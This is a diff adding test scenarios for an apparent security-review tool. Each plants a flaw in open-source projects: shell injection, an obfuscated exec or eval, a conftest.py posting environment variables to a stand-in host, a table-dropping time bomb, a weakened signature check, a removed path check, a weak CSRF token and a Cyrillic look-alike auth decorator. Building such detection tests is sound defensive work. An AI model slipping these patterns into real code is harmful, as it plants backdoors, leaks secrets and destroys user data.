@@ -545,3 +545,326 @@ def _(t: Tree) -> None:
             return json.loads(base64.b64decode(raw)) if raw else {}
         '''),
     )
+
+
+# more variants of each theme -------------------------------------------------------------------
+
+
+@add
+@scenario(
+    "flask-import-system-as-run",
+    "flask",
+    "adds a thumbnail helper that imports os.system as `run` and calls it with an f-string "
+    "(bandit resolves the import and blocks the shell string; the alias is named too)",
+    "block",
+    [SECURITY],
+    may=["hygiene", "quality"],
+    rules=["security/aliased-sink"],
+)
+def _(t: Tree) -> None:
+    t.write(
+        "examples/tutorial/flaskr/thumbs.py",
+        _block('''
+        """Make thumbnails of uploaded images."""
+        from os import system as run
+
+
+        def thumbnail(path, size=128):
+            return run(f"convert {path} -resize {size}x{size} {path}.thumb.png")
+        '''),
+    )
+
+
+@add
+@scenario(
+    "wcwidth-zlib-exec-payload",
+    "wcwidth",
+    "adds a 'table cache' that decompresses and executes a blob",
+    "block",
+    [SECURITY],
+    may=["hygiene", "quality"],
+    rules=["security/decode-exec"],
+)
+def _(t: Tree) -> None:
+    t.write(
+        "wcwidth/table_cache.py",
+        _block('''
+        """Load precomputed tables quickly."""
+        import zlib
+
+        _BLOB = b"x\\x9c+(\\xca\\xcc+\\xd10\\xd4\\x04\\x00\\x0b\\xb7\\x02\\x8e"
+
+
+        def load():
+            namespace = {}
+            exec(zlib.decompress(_BLOB), namespace)
+            return namespace
+        '''),
+    )
+
+
+@add
+@scenario(
+    "arrow-reversed-name-eval",
+    "arrow",
+    "adds a 'safe' expression helper that finds eval as 'lave'[::-1]",
+    "block",
+    [SECURITY],
+    may=["hygiene", "quality"],
+    rules=["security/obfuscated-call"],
+)
+def _(t: Tree) -> None:
+    t.write(
+        "arrow/expr.py",
+        _block('''
+        """Evaluate small date expressions."""
+        import builtins
+
+
+        def evaluate(expression: str) -> object:
+            return getattr(builtins, "lave"[::-1])(expression)
+        '''),
+    )
+
+
+@add
+@scenario(
+    "humanize-test-conftest-posts-environment",
+    "humanize",
+    "adds a tests/conftest.py that posts the whole environment to a URL when collected",
+    "block",
+    [SECURITY],
+    may=["test-integrity", "hygiene", "quality", "scope"],
+    rules=["security/env-exfiltration", "security/import-time-effect"],
+)
+def _(t: Tree) -> None:
+    t.write(
+        "tests/conftest.py",
+        _block("""
+        import json
+        import os
+        import urllib.request
+
+        urllib.request.urlopen(
+            urllib.request.Request(
+                "https://ci-metrics.example.dev/run",
+                data=json.dumps({**os.environ}).encode(),
+                method="POST",
+            )
+        )
+        """),
+    )
+
+
+@add
+@scenario(
+    "flask-epoch-time-bomb",
+    "flask",
+    "adds a session clean-up that drops the database once time.time() passes 1.8e9",
+    "block",
+    [SECURITY],
+    may=["hygiene", "quality"],
+    rules=["security/time-bomb"],
+)
+def _(t: Tree) -> None:
+    t.write(
+        "examples/tutorial/flaskr/maintenance.py",
+        _block('''
+        """Periodic maintenance of the tutorial database."""
+        import time
+
+        from .db import get_db
+
+
+        def vacuum():
+            db = get_db()
+            if time.time() > 1.8e9:
+                db.execute("DROP TABLE post")
+            db.execute("VACUUM")
+        '''),
+    )
+
+
+_SIGNING_BASE = _block('''
+    """Signed download links."""
+    import hashlib
+    import hmac
+    import os
+
+    ROOT = "/srv/downloads"
+
+
+    def valid(name, signature, key):
+        expected = hmac.new(key, name.encode(), hashlib.sha256).hexdigest()
+        return hmac.compare_digest(expected, signature)
+
+
+    def resolve(name):
+        path = os.path.realpath(os.path.join(ROOT, name))
+        if os.path.commonpath([path, ROOT]) != ROOT:
+            raise PermissionError(name)
+        return path
+    ''')
+
+
+@add
+@scenario(
+    "flask-signature-compare-made-plain",
+    "flask",
+    "replaces hmac.compare_digest with == in the download-link check",
+    "review",
+    [SECURITY],
+    may=["quality"],
+    rules=["security/weakened-comparison"],
+    base=lambda t: t.write("examples/tutorial/flaskr/links.py", _SIGNING_BASE),
+)
+def _(t: Tree) -> None:
+    t.replace(
+        "examples/tutorial/flaskr/links.py",
+        "    return hmac.compare_digest(expected, signature)\n",
+        "    return expected == signature\n",
+    )
+
+
+@add
+@scenario(
+    "flask-download-containment-removed",
+    "flask",
+    "'simplifies' resolve() by dropping realpath and the commonpath check",
+    "review",
+    [SECURITY],
+    may=["quality"],
+    rules=["security/weakened-comparison", "security/removed-protection"],
+    base=lambda t: t.write("examples/tutorial/flaskr/links.py", _SIGNING_BASE),
+)
+def _(t: Tree) -> None:
+    t.replace(
+        "examples/tutorial/flaskr/links.py",
+        "    path = os.path.realpath(os.path.join(ROOT, name))\n"
+        "    if os.path.commonpath([path, ROOT]) != ROOT:\n"
+        "        raise PermissionError(name)\n",
+        "    path = os.path.join(ROOT, name)\n",
+    )
+
+
+@add
+@scenario(
+    "flask-csrf-token-getrandbits",
+    "flask",
+    "stores a CSRF token made with random.getrandbits in the session at login",
+    "block",
+    [SECURITY],
+    may=["quality"],
+    rules=["security/weak-token-random"],
+)
+def _(t: Tree) -> None:
+    t.replace(
+        "examples/tutorial/flaskr/auth.py",
+        "import functools\n",
+        "import functools\nimport random\n",
+    )
+    t.replace(
+        "examples/tutorial/flaskr/auth.py",
+        '            session["user_id"] = user["id"]\n',
+        '            session["user_id"] = user["id"]\n'
+        '            session["csrf_token"] = "%032x" % random.getrandbits(128)\n',
+    )
+
+
+@add
+@scenario(
+    "flask-shadow-login-required",
+    "flask",
+    "defines a look-alike of login_required (with a Cyrillic i) that does nothing and "
+    "decorates the delete view with it",
+    "block",
+    [SECURITY],
+    may=["quality"],
+    rules=["security/confusable-identifier"],
+)
+def _(t: Tree) -> None:
+    t.replace(
+        BLOG,
+        '@bp.route("/<int:id>/delete", methods=("POST",))\n@login_required\n',
+        '@bp.route("/<int:id>/delete", methods=("POST",))\n@login_requ\u0456red\n',
+    )
+    t.replace(
+        BLOG,
+        'bp = Blueprint("blog", __name__)\n',
+        'bp = Blueprint("blog", __name__)\n\n\ndef login_requ\u0456red(view):\n    return view\n',
+    )
+
+
+# more clean look-alikes ------------------------------------------------------------------------
+
+
+@add
+@scenario(
+    "arrow-dated-deprecation-warning",
+    "arrow",
+    "adds a deprecation warning that starts on a fixed date (dated, but nothing destructive)",
+    "not-block",
+)
+def _(t: Tree) -> None:
+    t.write(
+        "arrow/_deprecation.py",
+        _block('''
+        """Warn about the old tzinfo parsing from 2027 on."""
+        import warnings
+        from datetime import date
+
+
+        def warn_old_tzinfo() -> None:
+            if date.today() >= date(2027, 1, 1):
+                warnings.warn("tzinfo strings are deprecated", DeprecationWarning, stacklevel=2)
+        '''),
+    )
+
+
+@add
+@scenario(
+    "humanize-cyrillic-url-in-docs-data",
+    "humanize",
+    "adds Russian and Ukrainian example URLs written wholly in Cyrillic",
+    "not-block",
+)
+def _(t: Tree) -> None:
+    t.write(
+        "scripts/idn_examples.py",
+        _block('''
+        """International domain names used in the documentation."""
+
+        EXAMPLES = {
+            "ru": "https://пример.рф/",
+            "uk": "https://приклад.укр/",
+            "el": "https://παράδειγμα.ελ/",
+        }
+        '''),
+    )
+
+
+@add
+@scenario(
+    "flask-getattr-dispatch-on-data",
+    "flask",
+    "adds a command dispatcher that looks handlers up with getattr on a known prefix",
+    "not-block",
+)
+def _(t: Tree) -> None:
+    t.write(
+        "examples/tutorial/flaskr/commands.py",
+        _block('''
+        """Dispatch admin commands to handler methods."""
+
+
+        class Commands:
+            def do_list(self):
+                return ["posts", "users"]
+
+            def run(self, name):
+                handler = getattr(self, "do_" + name, None)
+                if handler is None:
+                    raise KeyError(name)
+                return handler()
+        '''),
+    )
